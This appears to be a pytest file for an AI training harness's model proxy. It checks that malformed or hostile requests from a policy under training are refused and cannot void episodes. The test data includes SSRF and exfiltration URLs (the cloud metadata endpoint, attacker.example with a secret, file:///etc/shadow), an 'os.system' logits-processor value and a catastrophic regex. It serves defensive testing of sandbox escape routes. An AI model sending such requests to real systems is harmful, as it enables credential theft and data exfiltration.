"""A policy must never be able to make its episode `void` (docs/harness.md, "Limits, void
versus 0"): whatever the agent sends through its model proxy, an answer it provoked is its
own failure (a 4xx back to the harness, the episode verified), never a session fault.

The upstream is the real model server (palaestra.sdk.train.openai_server over HFBackend,
a tiny model); a request a policy can write from its bash tool goes through the sandbox's
gateway exactly as a harness's would. FakeUpstream (a fake) records what a request that
vLLM would honour carries upstream, which the tiny server cannot show.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from palaestra.sdk.train.openai_server import parse_tool_calls
from palaestra.server.harness.proxy import LlmSession, SessionProxy
from tests.conftest import make_settings
from tests.harness_fakes import FakeUpstream, gateway_on_loopback, options
from tests.harness_peers import RecordingModel, recording_model

pytestmark = pytest.mark.slow

USER = [{"role": "user", "content": "hi"}]


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RecordingModel]:
    with recording_model(tmp_path_factory.mktemp("void-model")) as served:
        yield served


async def through_gateway(
    endpoint: str, model_name: str, body: dict[str, Any], path: str = "/v1/chat/completions"
) -> tuple[httpx.Response, LlmSession]:
    """`body` (JSON, NaN and all) posted to a fresh session's gateway: the reply, the session."""
    proxy = SessionProxy(make_settings())
    session = proxy.open(
        "ep", options(endpoint, model_name), owner="tok", max_calls=5, max_tokens=64,
        on_call=lambda _call: None,
    )  # fmt: skip
    try:
        async with (
            gateway_on_loopback(proxy, "ep") as url,
            httpx.AsyncClient(base_url=url, timeout=60) as http,
        ):
            reply = await http.post(path, content=json.dumps(body).encode())
        return reply, session
    finally:
        await proxy.aclose()


HOSTILE: dict[str, dict[str, Any]] = {
    "seed_past_int64": {"seed": 2**64},
    "seed_huge": {"seed": 10**30},
    "seed_negative_huge": {"seed": -(2**70)},
    "temperature_nan": {"temperature": float("nan")},
    "temperature_inf": {"temperature": float("inf")},
    "stop_token_ids_huge": {"stop_token_ids": [2**70]},
    "max_tokens_huge": {"max_tokens": 2**70},
    "content_not_text": {"messages": [{"role": "user", "content": {"a": 1}}]},
    "tools_garbage": {"tools": [{"type": "function", "function": 7}]},
    "tool_choice_odd": {"tool_choice": {"type": "function"}},
}


@pytest.mark.parametrize("name", list(HOSTILE))
async def test_no_request_of_the_policy_voids_the_episode(model: RecordingModel, name: str) -> None:
    body = {"messages": USER, "max_tokens": 4, **HOSTILE[name]}
    reply, session = await through_gateway(model.endpoint, model.name, body)
    assert session.fault is None, (name, session.fault)
    assert reply.status_code < 500, (name, reply.text)


# Open Responses requests (server/harness/responses.py) the translation lets through to
# the model server: what it sends on must be the model server's 4xx at worst, never a fault.
HOSTILE_RESPONSES: dict[str, dict[str, Any]] = {
    "schema_properties_garbage": {"tools": [{"type": "function", "name": "f",
                                             "parameters": {"type": "object", "properties": 5}}]},
    "schema_required_garbage": {"tools": [{"type": "function", "name": "f",
                                           "parameters": {"type": "object", "required": 7}}]},
    "tool_choice_unknown_tool": {"tool_choice": {"type": "function", "name": "nope"}},
    "required_without_tools": {"tool_choice": "required"},
    "arguments_not_json": {"input": [
        {"type": "message", "role": "user", "content": "hi"},
        {"type": "function_call", "call_id": "c", "name": "f", "arguments": "{not json"},
        {"type": "function_call_output", "call_id": "c", "output": "ok"}]},
    "output_for_no_call": {"input": [
        {"type": "function_call_output", "call_id": "ghost", "output": "ok"}]},
    "max_output_tokens_huge": {"max_output_tokens": 2**70},
    "image_data_garbage": {"input": [{"type": "message", "role": "user", "content": [
        {"type": "input_image", "image_url": "data:image/png;base64,!!!"}]}]},
}  # fmt: skip


@pytest.mark.parametrize("name", list(HOSTILE_RESPONSES))
async def test_no_responses_request_of_the_policy_voids_the_episode(
    model: RecordingModel, name: str
) -> None:
    body = {"model": "m", "input": "hi", "max_output_tokens": 4, **HOSTILE_RESPONSES[name]}
    reply, session = await through_gateway(model.endpoint, model.name, body, "/v1/responses")
    assert session.fault is None, (name, session.fault)
    assert reply.status_code < 500, (name, reply.text)
    assert "error" in reply.json() or reply.json()["object"] == "response"


def test_the_model_server_refuses_a_seed_past_torch(model: RecordingModel) -> None:
    """Called directly too (a trainer, or a reset whose sampling sets it), a seed past
    torch's 64 bits is a 400 naming it, not manual_seed's overflow as a 500."""
    for seed in (2**64, -(2**70)):
        body = {"model": model.name, "messages": USER, "max_tokens": 2, "seed": seed}
        reply = httpx.post(f"{model.endpoint}/chat/completions", json=body, timeout=60)
        assert reply.status_code == 400 and "seed" in reply.text, reply.text


@pytest.fixture(scope="module")
def upstream() -> Iterator[FakeUpstream]:
    with FakeUpstream() as fake:
        yield fake


# vLLM's extensions a policy could send (its own bash tool posts to the proxy): ones that
# grow the reply past llm_max_response_kb, and inputs engines have crashed on (top_k past
# int32 or the vocabulary: vllm-spyre #542, sglang #17788; compiled grammars).
EXTENSIONS: dict[str, Any] = {
    "prompt_logprobs": 20, "top_logprobs": 20, "echo": True, "top_k": 2**31, "min_p": 0.5,
    "repetition_penalty": 1e300, "min_tokens": 10**9, "ignore_eos": True,
    "bad_words": ["x"] * 1000, "guided_json": {"type": "object"}, "guided_regex": "(a*)*b",
    "structured_outputs": {"regex": "(a*)*b"}, "response_format": {"type": "json_object"},
    "logits_processors": ["os.system"], "truncate_prompt_tokens": -1, "best_of": 64,
    "use_beam_search": True, "kv_transfer_params": {"x": 1}, "priority": -(10**9),
}  # fmt: skip


async def test_only_openai_fields_of_the_harness_reach_the_upstream(
    upstream: FakeUpstream,
) -> None:
    """An upstream's 500 or a reply over the cap is a fault (void), and a crashed engine
    voids every episode on it: of the harness's body only OpenAI's chat fields are sent
    on. The call still succeeds; the record keeps what the harness sent."""
    before = len(upstream.hits)
    body = {"messages": USER, "temperature": 0.5, "stop": ["x"], **EXTENSIONS}
    reply, session = await through_gateway(f"{upstream.url}/ok", "fake", body)
    assert reply.status_code == 200, reply.text
    assert session.fault is None
    [hit] = upstream.hits[before:]
    assert not set(EXTENSIONS) & set(hit.body), hit.body
    assert hit.body["temperature"] == 0.5 and hit.body["stop"] == ["x"]
    assert hit.body["logprobs"] is True and hit.body["return_token_ids"] is True


@pytest.mark.parametrize(
    "field",
    [{"temperature": 1e300}, {"temperature": -1}, {"top_p": 7}, {"presence_penalty": -1e9},
     {"frequency_penalty": "x"}, {"seed": 2**64}, {"seed": 1.5}, {"temperature": True},
     {"stop": ["x"] * 100_000}, {"stop": 5}, {"stop": [5]}],
    ids=str,
)  # fmt: skip
async def test_sampling_fields_out_of_openai_ranges_are_refused(
    upstream: FakeUpstream, field: dict[str, Any]
) -> None:
    before = len(upstream.hits)
    reply, session = await through_gateway(
        f"{upstream.url}/ok", "fake", {"messages": USER, **field}
    )
    assert reply.status_code == 400, reply.text
    error = reply.json()["error"]
    assert error["param"] == next(iter(field)) and next(iter(field)) in error["message"]
    assert session.fault is None and len(upstream.hits) == before


def test_a_tool_call_the_model_wrote_cannot_crash_the_model_server() -> None:
    """The model writes its Hermes tool calls as text; a `name` of `\\ud800` (valid JSON, a
    lone surrogate once parsed) made the model server's reply unencodable as UTF-8, its 500
    a fault (void) the policy caused. Such a block stays in the content, as text."""
    text = '<tool_call>{"name": "\\ud800", "arguments": {}}</tool_call>'
    content, calls = parse_tool_calls(text)
    assert calls == [] and content == text
    json.dumps({"content": content, "tool_calls": calls}, ensure_ascii=False).encode()


def _part(kind: str, url: str) -> dict[str, Any]:
    return {"role": "user", "content": [{"type": "text", "text": "see"},
                                        {"type": kind, kind: {"url": url}}]}  # fmt: skip


@pytest.mark.parametrize(
    "message",
    [_part("image_url", "http://169.254.169.254/latest/meta-data"),
     _part("image_url", "https://attacker.example/?secret=the-answer"),
     _part("video_url", "http://10.0.0.7/v.mp4"), _part("audio_url", "file:///etc/shadow"),
     {"role": "user", "content": [{"type": "image_url", "image_url": "http://x/y.png"}]},
     {"role": "user", "content": [{"type": "image_embeds", "image_embeds": "AAAA"}]}],
    ids=["metadata", "exfiltrate", "video", "file", "bare_url", "embeds"],
)  # fmt: skip
async def test_content_the_upstream_would_fetch_is_refused(
    upstream: FakeUpstream, message: dict[str, Any]
) -> None:
    """vLLM fetches a message's media URLs itself: from a sandbox with no route out, a
    policy would reach the metadata service or a private network, or send its workspace
    anywhere, through the model server. Only text and `data:` media go upstream."""
    before = len(upstream.hits)
    reply, session = await through_gateway(f"{upstream.url}/ok", "fake", {"messages": [message]})
    assert reply.status_code == 400, reply.text
    assert reply.json()["error"]["param"] == "messages"
    assert session.fault is None and len(upstream.hits) == before
    inline = _part("image_url", "data:image/png;base64,iVBORw0KGgo=")
    reply, _ = await through_gateway(f"{upstream.url}/ok", "fake", {"messages": [inline]})
    assert reply.status_code == 200, reply.text
